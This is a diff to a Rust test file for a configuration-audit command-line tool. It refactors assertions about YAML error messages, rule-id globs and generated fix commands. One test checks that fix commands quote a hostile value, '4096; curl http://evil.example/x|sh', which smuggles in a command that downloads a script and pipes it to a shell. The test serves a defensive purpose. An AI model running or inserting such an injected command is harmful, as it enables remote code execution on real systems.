@@ -5,6 +5,7 @@
 //! resource tests bound the work (memory, bytes printed), not the time.
 
 use crate::common::cli;
+use crate::common::cli::says;
 
 use std::fs;
 use std::io::Read;
@@ -242,23 +243,16 @@ fn a_yaml_error_on_a_huge_line_prints_a_window_around_the_column() {
 
 #[test]
 fn a_mis_indented_policy_line_is_reported_at_that_line() {
-    let t = tempfile::tempdir().unwrap();
-    let p = t.path().join("indent.yaml");
-    fs::write(
-        &p,
+    let (_t, p) = crate::common::tree::temp_file(
+        "indent.yaml",
         "policy: p\nrules:\n  - id: x\n   title: bad indent\n    severity: low\n",
-    )
-    .unwrap();
+    );
     let o = check_only_policy(&p);
     assert_eq!(o.code, Some(2), "{}", o.stderr);
     // PyYAML and libyaml reject the file at line 4, column 4
     let want = format!("{}:4:4:", p.display());
     assert!(o.stderr.contains(&want), "want {want}: {}", o.stderr);
-    assert!(
-        o.stderr.contains("4 |    title: bad indent"),
-        "{}",
-        o.stderr
-    );
+    says(&o.stderr, "4 |    title: bad indent");
     assert!(!o.stderr.contains("missing field"), "{}", o.stderr);
 }
 
@@ -377,9 +371,9 @@ fn a_fix_command_never_carries_an_unquoted_host_value() {
             !f.contains("=4096; curl"),
             "unquoted host value in a command: {f}"
         );
-        assert!(
-            f.contains("sysctl -w net.core.somaxconn='4096; curl http://evil.example/x|sh'"),
-            "{f}"
+        says(
+            f,
+            "sysctl -w net.core.somaxconn='4096; curl http://evil.example/x|sh'",
         );
     }
     // a value that cannot be quoted safely is not put into a command at all
@@ -408,28 +402,17 @@ fn only_or_skip_globs_matching_no_rule_exit_2_with_close_ids() {
     ]);
     assert_eq!(o.code, Some(2), "{}", o.stderr);
     assert!(o.stdout.is_empty(), "nothing audited: {}", o.stdout);
-    assert!(
-        o.stderr
-            .contains("`--only linux.tcp-tw-recyle` matches no rule")
-            && o.stderr.contains("close ids: `linux.tcp-tw-recycle`"),
-        "{}",
-        o.stderr
-    );
+    says(&o.stderr, "`--only linux.tcp-tw-recyle` matches no rule");
+    says(&o.stderr, "close ids: `linux.tcp-tw-recycle`");
     let o = run(&["check", "--snapshot", CLEAN, "--skip", "mysq.*"]);
     assert_eq!(o.code, Some(2), "{}", o.stderr);
-    assert!(
-        o.stderr
-            .contains("`--skip mysq.*` matches no rule; close ids: `mysql"),
-        "{}",
-        o.stderr
+    says(
+        &o.stderr,
+        "`--skip mysq.*` matches no rule; close ids: `mysql",
     );
     let o = run(&["check", "--snapshot", CLEAN, "--only", "zzz"]);
     assert_eq!(o.code, Some(2));
-    assert!(
-        o.stderr.contains("`driftaudit list` shows every rule id"),
-        "{}",
-        o.stderr
-    );
+    says(&o.stderr, "`driftaudit list` shows every rule id");
     // globs that match still work
     let o = run(&[
         "check",
